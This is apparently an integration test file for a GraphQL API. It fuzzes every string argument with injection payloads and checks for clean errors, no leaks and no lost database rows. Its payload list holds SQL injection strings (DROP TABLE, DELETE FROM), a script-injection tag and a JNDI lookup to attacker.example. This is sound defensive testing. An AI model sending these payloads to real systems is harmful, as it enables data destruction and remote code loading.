import { randomUUID } from 'node:crypto';
import {
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
} from 'graphql';
import { buildAppSchema } from '../../src/graphql/schema';
import { codes, startTestApp, type TestApp } from '../support/test-app';

/**
 * SQL metacharacters and unicode oddities in every String and ID argument of every operation,
 * input fields included, found by walking the schema (so a new argument is covered without a
 * new test). Each call is made by a principal allowed to use the operation, so the text reaches
 * the database: the answer may be any clean error or a success, never a 500, and no table may lose
 * rows or vanish.
 */
const PAYLOADS = [
  `' OR '1'='1`,
  `'; DROP TABLE users; --`,
  `" OR ""="`,
  `\\'; DELETE FROM subjects; --`,
  `)) OR 1=1 --`,
  `$1 $2 %s %d`,
  `%_%`,
  `!:*&|() <-> <2>`,
  `<script>alert(1)</script>`,
  `\${jndi:ldap://attacker.example/a}`,
  `Zoë ‮evil‭ \u200b\ufeff e\u0301`,
  `😀🧒🏽`,
  `\ud800`,
  `\n{"level":60,"msg":"forged log line"}\n`,
  'x'.repeat(5000),
];

const OPERATION_CALLER: Record<string, string | null> = {
  login: null,
  refreshToken: null,
  serviceToken: null,
  createAgency: 'admin@oversight.example',
  createUser: 'admin@oversight.example',
  disableUser: 'admin@oversight.example',
  users: 'admin@oversight.example',
  auditEvents: 'auditor@oversight.example',
  subjectAccessHistory: 'auditor@oversight.example',
  verifyAuditTrail: 'auditor@oversight.example',
  accessAnomalies: 'auditor@oversight.example',
};
const DEFAULT_CALLER = 'supervisor@gmp.example';

interface Target {
  operation: string;
  mutation: boolean;
  field: GraphQLField<unknown, unknown>;
  path: string[];
}

/** Every (operation, argument path) whose leaf is a String or ID. */
function stringTargets(schema: GraphQLSchema): Target[] {
  const targets: Target[] = [];
  const walk = (
    op: string,
    mutation: boolean,
    field: GraphQLField<unknown, unknown>,
    path: string[],
    type: GraphQLInputType,
    depth: number,
  ) => {
    const named = getNamedType(type);
    if (isInputObjectType(named)) {
      if (depth < 3) for (const f of Object.values(named.getFields())) walk(op, mutation, field, [...path, f.name], f.type, depth + 1);
    } else if (named.name === 'String' || named.name === 'ID') {
      targets.push({ operation: op, mutation, field, path });
    }
  };
  for (const [root, mutation] of [
    [schema.getQueryType(), false],
    [schema.getMutationType(), true],
  ] as const) {
    if (!isObjectType(root)) continue;
    for (const field of Object.values(root.getFields())) for (const a of field.args) walk(field.name, mutation, field, [a.name], a.type, 0);
  }
  return targets;
}

/** A plausible value for a type: enough for the call to reach its service. */
function sample(type: GraphQLInputType, name: string, depth = 0): unknown {
  if (isNonNullType(type)) return sample(type.ofType, name, depth);
  if (isListType(type)) return [sample(type.ofType, name, depth)];
  if (isEnumType(type)) return type.getValues()[0].value;
  if (isInputObjectType(type)) {
    const value: Record<string, unknown> = {};
    for (const f of Object.values(type.getFields()))
      if (isNonNullType(f.type) && depth < 3) value[f.name] = sample(f.type, f.name, depth + 1);
    return value;
  }
  if (isScalarType(type)) {
    switch (type.name) {
      case 'Int':
        return 1;
      case 'Float':
        return 1;
      case 'Boolean':
        return false;
      case 'ID':
        return randomUUID();
      case 'DateTime':
        return '2024-01-02T03:04:05Z';
      case 'Date':
        return '2024-01-02';
      default:
        return /email/i.test(name) ? 'synthetic@example.invalid' : 'synthetic text';
    }
  }
  return null;
}

/** Sets `payload` at `path` inside the arguments, creating the input objects on the way. */
function argumentsWith(field: GraphQLField<unknown, unknown>, path: string[], payload: string): Record<string, unknown> {
  const args: Record<string, unknown> = {};
  for (const a of field.args) if (isNonNullType(a.type)) args[a.name] = sample(a.type, a.name);
  let holder: Record<string, unknown> = args;
  let type: GraphQLInputType | undefined = field.args.find((a) => a.name === path[0])?.type;
  for (let i = 0; i < path.length - 1; i++) {
    const named = getNamedType(type!);
    const existing = holder[path[i]];
    const next = (Array.isArray(existing) ? existing[0] : existing) as Record<string, unknown> | undefined;
    const created = next ?? (sample(named, path[i]) as Record<string, unknown>);
    holder[path[i]] = isListType(isNonNullType(type!) ? type.ofType : type) ? [created] : created;
    holder = created;
    type = isInputObjectType(named) ? named.getFields()[path[i + 1]].type : undefined;
  }
  const leafIsList = type && isListType(isNonNullType(type) ? type.ofType : type);
  holder[path[path.length - 1]] = leafIsList ? [payload] : payload;
  return args;
}

/** A document selecting only `__typename` (or nothing, for scalar results) from the operation. */
function documentFor(target: Target): string {
  const defs = target.field.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const call = target.field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const selection = isScalarType(getNamedType(target.field.type)) || isEnumType(getNamedType(target.field.type)) ? '' : '{ __typename }';
  return `${target.mutation ? 'mutation' : 'query'}${defs ? `(${defs})` : ''} { ${target.field.name}${call ? `(${call})` : ''} ${selection} }`;
}

let app: TestApp;
const tokens = new Map<string, string>();
let tablesBefore: { table: string; n: number }[];

async function tableCounts(): Promise<{ table: string; n: number }[]> {
  const tables = (await app.ownerQuery(
    `SELECT c.relname AS table FROM pg_class c JOIN pg_namespace ns ON ns.oid = c.relnamespace
      WHERE ns.nspname = 'public' AND c.relkind IN ('r', 'p') AND NOT c.relispartition ORDER BY 1`,
  )) as { table: string }[];
  const counts = [];
  for (const { table } of tables) {
    const [{ n }] = (await app.ownerQuery(`SELECT count(*)::int AS n FROM "${table}"`)) as { n: number }[];
    counts.push({ table, n });
  }
  return counts;
}

beforeAll(async () => {
  app = await startTestApp();
  for (const email of new Set([DEFAULT_CALLER, ...Object.values(OPERATION_CALLER).filter((e): e is string => e !== null)])) {
    tokens.set(email, (await app.login(email)).accessToken);
  }
  tablesBefore = await tableCounts();
});

afterAll(async () => {
  await app.close();
});

it('reaches every String and ID argument of the schema', async () => {
  const targets = stringTargets(await buildAppSchema());
  expect(targets.length).toBeGreaterThan(40);
});

it('no payload in any string argument causes a 500, a leak, or a lost table or row', async () => {
  const targets = stringTargets(await buildAppSchema());
  const failures: string[] = [];
  for (const target of targets) {
    const caller = target.operation in OPERATION_CALLER ? OPERATION_CALLER[target.operation] : DEFAULT_CALLER;
    const token = caller ? tokens.get(caller) : undefined;
    for (const payload of PAYLOADS) {
      const r = await app.gql(documentFor(target), argumentsWith(target.field, target.path, payload), token);
      const text = JSON.stringify(r.body);
      const where = `${target.operation}(${target.path.join('.')}) with ${JSON.stringify(payload.slice(0, 30))}`;
      if (r.status >= 500 || codes(r).includes('INTERNAL_SERVER_ERROR')) failures.push(`${where}: ${r.status} ${text.slice(0, 200)}`);
      else if (/syntax error at or near|node_modules|\bat \w+ \(/.test(text)) failures.push(`${where}: leaked ${text.slice(0, 200)}`);
    }
  }
  expect(failures).toEqual([]);
  // Nothing vanished: every table is still there, and none lost rows (writes that succeeded may add some).
  const after = new Map((await tableCounts()).map((t) => [t.table, t.n]));
  for (const { table, n } of tablesBefore) {
    expect(after.has(table)).toBe(true);
    expect(after.get(table)).toBeGreaterThanOrEqual(n);
  }
}, 600_000);

it('text is stored exactly as given (parameters, never spliced into SQL)', async () => {
  const supervisor = tokens.get(DEFAULT_CALLER)!;
  const nasty = `'; DROP TABLE users; -- Zoë ‮ 😀 $1 %_`;
  const r = await app.gql<{ submitIntelligence: { id: string; narrative: string; location: string } }>(
    'mutation($n: String!) { submitIntelligence(input: { sourceType: POLICE, narrative: $n, location: $n }) { id narrative location } }',
    { n: nasty },
    supervisor,
  );
  expect(r.body.data!.submitIntelligence).toMatchObject({ narrative: nasty, location: nasty });
  const search = await app.gql<{ searchIntelligence: { totalCount: number } }>(
    'query($t: String!) { searchIntelligence(text: $t) { totalCount } }',
    { t: nasty },
    supervisor,
  );
  expect(search.body.errors).toBeUndefined();
});
